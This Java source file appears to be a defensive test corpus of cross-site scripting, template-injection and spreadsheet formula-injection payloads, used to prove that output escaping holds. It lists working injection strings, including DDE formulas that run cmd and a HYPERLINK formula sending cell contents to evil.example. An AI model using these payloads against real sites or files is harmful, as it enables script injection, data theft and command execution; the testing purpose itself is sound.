package org.pmosuite.sandbox.security;

import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;

/**
 * The XSS corpus: text that would run script where it lands in markup, break out of the element, attribute or
 * script it is put in, be evaluated by a template engine, or be read as a formula by a spreadsheet.
 *
 * <p>A payload that would run script calls {@code __xss.push(id)} with its own {@link Payload#id()}; the browser
 * test defines {@code window.__xss} in every document before the page's scripts, so a payload that ran is named by
 * the marker it left. A template form carries the text it would turn into if an engine evaluated it
 * ({@link Payload#evaluated()}, a product no page shows otherwise), so an evaluation is seen even when it runs
 * nothing. Each payload names the {@link Context} in which it is dangerous, where the canary test puts it unsafely to
 * prove that the check sees it.
 */
final class XssPayloads {

    /** Where a payload does harm: the markup, script or engine it must be inserted into, unescaped. */
    enum Context {
        /** Between tags: {@code <div>…</div>}. */
        HTML,
        /** A double-quoted attribute value. */
        DOUBLE_QUOTED,
        /** A single-quoted attribute value. */
        SINGLE_QUOTED,
        /** An unquoted attribute value. */
        UNQUOTED,
        /** A URL attribute: {@code href}, {@code src}. */
        URL,
        /** Inside {@code <textarea>}. */
        TEXTAREA,
        /** Inside {@code <title>}. */
        TITLE,
        /** Inside {@code <style>}. */
        STYLE,
        /** Inside {@code <noscript>}. */
        NOSCRIPT,
        /** Inside an {@code <option>} of a {@code <select>}. */
        OPTION,
        /** Inside an HTML comment. */
        COMMENT,
        /** Inside a CDATA section of inline SVG. */
        CDATA,
        /** A single-quoted JavaScript string. */
        SCRIPT_SINGLE,
        /** A double-quoted JavaScript string. */
        SCRIPT_DOUBLE,
        /** A single-quoted JavaScript string whose quotes are escaped, but not its backslashes. */
        SCRIPT_SINGLE_ESCAPED,
        /** A JavaScript template literal. */
        SCRIPT_TEMPLATE,
        /** Any string inside {@code <script>}. */
        SCRIPT,
        /** Text that a JavaScript template engine (AngularJS {@code {{…}}}, template literals) evaluates. */
        JS_TEMPLATE,
        /** Text that Velocity evaluates, as if a template were built from it. */
        VELOCITY,
        /** Text that another server-side engine (JSP, ERB, Thymeleaf, EL) evaluates. */
        OTHER_TEMPLATE,
        /** Text decoded once (HTML entities, percent or JavaScript escapes) before it goes into markup. */
        DECODED,
        /** A spreadsheet cell. */
        CSV
    }

    /**
     * One payload.
     *
     * @param id        its marker: {@code __xss.push(id)} when it runs
     * @param kind      what it tries, for messages
     * @param context   where it is dangerous
     * @param text      the text written
     * @param evaluated what an engine evaluating it would show, or {@code null}
     */
    record Payload(int id, String kind, Context context, String text, String evaluated) {

        /** Whether it runs script when it lands in its context. */
        boolean runs() {
            return text.contains("__xss.push(" + id + ")");
        }

        /** Whether a spreadsheet would read it as a formula. */
        boolean formula() {
            return !text.isEmpty() && FORMULA_STARTS.indexOf(text.charAt(0)) >= 0;
        }

        @Override
        public String toString() {
            return "#" + id + " " + kind;
        }
    }

    /** The first characters that make a spreadsheet read a cell as a formula. */
    static final String FORMULA_STARTS = "=+-@\t\r";

    private static final List<Payload> ALL = build();

    private XssPayloads() {
    }

    static List<Payload> all() {
        return ALL;
    }

    static Payload byId(int id) {
        return ALL.stream().filter(p -> p.id() == id).findFirst().orElseThrow();
    }

    /** What would show on a page if a template engine had evaluated a payload. */
    static Set<String> evaluatedForms() {
        return ALL.stream().map(Payload::evaluated).filter(e -> e != null).collect(Collectors.toSet());
    }

    private static List<Payload> build() {
        Builder b = new Builder();
        // Element injection
        b.add("script element", Context.HTML, "<script>__xss.push(#)</script>");
        b.add("img onerror", Context.HTML, "<img src=x onerror=__xss.push(#)>");
        b.add("img onerror, upper case", Context.HTML, "<IMG SRC=x ONERROR=\"__xss.push(#)\">");
        b.add("svg onload", Context.HTML, "<svg onload=__xss.push(#)>");
        b.add("script in svg", Context.HTML, "<svg><script>__xss.push(#)</script></svg>");
        b.add("svg animate onbegin", Context.HTML, "<svg><animate onbegin=__xss.push(#) attributeName=x dur=1s>");
        b.add("iframe srcdoc", Context.HTML, "<iframe srcdoc=\"<script>parent.__xss.push(#)</script>\"></iframe>");
        b.add("details ontoggle", Context.HTML, "<details open ontoggle=__xss.push(#)>");
        b.add("body onload", Context.HTML, "<body onload=__xss.push(#)>");
        b.add("input autofocus onfocus", Context.HTML, "<input autofocus onfocus=__xss.push(#)>");
        b.add("video source onerror", Context.HTML, "<video><source onerror=__xss.push(#)></video>");
        b.add("img in MathML", Context.HTML, "<math><mtext><img src=x onerror=__xss.push(#)></mtext></math>");
        b.add("style onload", Context.HTML, "<style onload=__xss.push(#)></style>");
        b.add("marquee onstart", Context.HTML, "<marquee onstart=__xss.push(#)>m</marquee>");
        b.add("svg link with javascript: URL", Context.HTML,
                "<svg><a xlink:href=\"javascript:__xss.push(#)\"><text y=9>x</text></a></svg>");
        b.add("anchor with javascript: URL", Context.HTML, "<a href=\"javascript:__xss.push(#)\">open</a>");
        b.add("button formaction", Context.HTML,
                "<form><button formaction=javascript:__xss.push(#)>go</button></form>");
        b.add("object data javascript:", Context.HTML, "<object data=\"javascript:__xss.push(#)\"></object>");
        b.add("noscript title mutation", Context.HTML,
                "<noscript><p title=\"</noscript><img src=x onerror=__xss.push(#)>\"></noscript>");
        // Breaking out of the element the text is in
        b.add("textarea breakout", Context.TEXTAREA, "</textarea><img src=x onerror=__xss.push(#)>");
        b.add("title breakout", Context.TITLE, "</title><img src=x onerror=__xss.push(#)>");
        b.add("script breakout", Context.SCRIPT, "</script><img src=x onerror=__xss.push(#)>");
        b.add("script breakout into script", Context.SCRIPT, "</script><script>__xss.push(#)</script>");
        b.add("select breakout", Context.OPTION, "</option></select><img src=x onerror=__xss.push(#)>");
        b.add("comment breakout", Context.COMMENT, "--><img src=x onerror=__xss.push(#)>");
        b.add("CDATA breakout", Context.CDATA, "]]><img src=x onerror=__xss.push(#)>");
        b.add("style breakout", Context.STYLE, "</style><img src=x onerror=__xss.push(#)>");
        b.add("noscript breakout", Context.NOSCRIPT, "</noscript><img src=x onerror=__xss.push(#)>");
        // Breaking out of an attribute value
        b.add("double quote, autofocus onfocus", Context.DOUBLE_QUOTED, "\" autofocus onfocus=__xss.push(#) x=\"");
        b.add("single quote, autofocus onfocus", Context.SINGLE_QUOTED, "' autofocus onfocus=__xss.push(#) x='");
        b.add("double quote, new element", Context.DOUBLE_QUOTED, "\"><img src=x onerror=__xss.push(#)>");
        b.add("single quote, new element", Context.SINGLE_QUOTED, "'><img src=x onerror=__xss.push(#)>");
        b.add("double quote, onmouseover", Context.DOUBLE_QUOTED, "\" onmouseover=\"__xss.push(#)");
        b.add("single quote, onmouseover", Context.SINGLE_QUOTED, "' onmouseover='__xss.push(#)' x='");
        b.add("unquoted, onerror", Context.UNQUOTED, "x onerror=__xss.push(#)");
        b.add("double quote, onpointerenter", Context.DOUBLE_QUOTED, "\" onpointerenter=__xss.push(#) x=\"");
        // Breaking out of a script string
        b.add("single-quoted string", Context.SCRIPT_SINGLE, "';__xss.push(#);'");
        b.add("double-quoted string", Context.SCRIPT_DOUBLE, "\";__xss.push(#);\"");
        b.add("escaped quote, unescaped backslash", Context.SCRIPT_SINGLE_ESCAPED, "\\';__xss.push(#);//");
        b.add("template literal substitution", Context.SCRIPT_TEMPLATE, "${__xss.push(#)}");
        b.add("template literal breakout", Context.SCRIPT_TEMPLATE, "`+__xss.push(#)+`");
        // URLs
        b.add("javascript: URL", Context.URL, "javascript:__xss.push(#)");
        b.add("javascript: URL, mixed case", Context.URL, "JaVaScRiPt:__xss.push(#)");
        b.add("javascript: URL, tab inside", Context.URL, "java\tscript:__xss.push(#)");
        b.add("data: URL of HTML", Context.URL, "data:text/html,<script>parent.__xss.push(#)</script>");
        // Template forms: a JavaScript engine
        b.add("AngularJS constructor", Context.JS_TEMPLATE, "{{constructor.constructor('__xss.push(#)')()}}");
        b.add("AngularJS $on constructor", Context.JS_TEMPLATE, "{{$on.constructor('__xss.push(#)')()}}");
        b.evaluating("double braces arithmetic", Context.JS_TEMPLATE, "{{7*%d}}", 130307);
        b.evaluating("template literal arithmetic", Context.JS_TEMPLATE, "${7*%d}", 130369);
        // Template forms: Velocity
        b.evaluating("Velocity #set", Context.VELOCITY, "#set($x=7*%d)$x", 130399);
        b.evaluating("Velocity #{set} and ${}", Context.VELOCITY, "#{set}($z=7*%d)${z}", 130409);
        b.evaluating("Velocity $!{} of #set", Context.VELOCITY, "#set($q=7*%d)$!{q}", 130411);
        b.add("Velocity #foreach", Context.VELOCITY, "#foreach($i in [1..3])zq$i#end", "zq1zq2zq3");
        b.add("Velocity #set building markup", Context.VELOCITY,
                "#set($l='<')${l}img src=x onerror=__xss.push(#)>");
        b.add("Velocity reference to a page object", Context.VELOCITY, "$!{page}$!{i18n}zv$!{nothing}zw", "zvzw");
        // Template forms: other engines
        b.evaluating("JSP / ERB expression", Context.OTHER_TEMPLATE, "<%%= 7*%d %%>", 130423);
        b.evaluating("Thymeleaf inline", Context.OTHER_TEMPLATE, "[[${7*%d}]]", 130439);
        b.evaluating("expression language", Context.OTHER_TEMPLATE, "#{7*%d}", 130447);
        // Encoded forms that must stay text when decoded once
        b.add("HTML entities", Context.DECODED, "&lt;img src=x onerror=__xss.push(#)&gt;");
        b.add("percent-encoded", Context.DECODED, "%3Cimg%20src%3Dx%20onerror%3D__xss.push(#)%3E");
        b.add("JavaScript escapes", Context.DECODED, "\\u003cimg src=x onerror=__xss.push(#)\\u003e");
        // Spreadsheet formulas
        b.add("formula: HYPERLINK", Context.CSV, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")");
        b.add("formula: plus, DDE", Context.CSV, "+cmd|' /C calc'!A0");
        b.add("formula: minus", Context.CSV, "-2+3+cmd|' /C calc'!A0");
        b.add("formula: at", Context.CSV, "@SUM(1+9)*cmd|' /C calc'!A0");
        b.add("formula: tab first", Context.CSV, "\t=1+2");
        b.add("formula: carriage return first", Context.CSV, "\r=1+2");
        b.add("formula with markup", Context.HTML, "=<img src=x onerror=__xss.push(#)>");
        return List.copyOf(b.payloads);
    }

    private static final class Builder {
        private final List<Payload> payloads = new ArrayList<>();

        void add(String kind, Context context, String template) {
            add(kind, context, template, null);
        }

        void add(String kind, Context context, String template, String evaluated) {
            int id = payloads.size() + 1;
            payloads.add(new Payload(id, kind, context, template.replace("__xss.push(#)", "__xss.push(" + id + ")"),
                    evaluated));
        }

        /** A payload that multiplies 7 by the factor, so that its evaluation shows a product no page has. */
        void evaluating(String kind, Context context, String format, int factor) {
            add(kind, context, String.format(format, factor), String.valueOf(7L * factor));
        }
    }
}
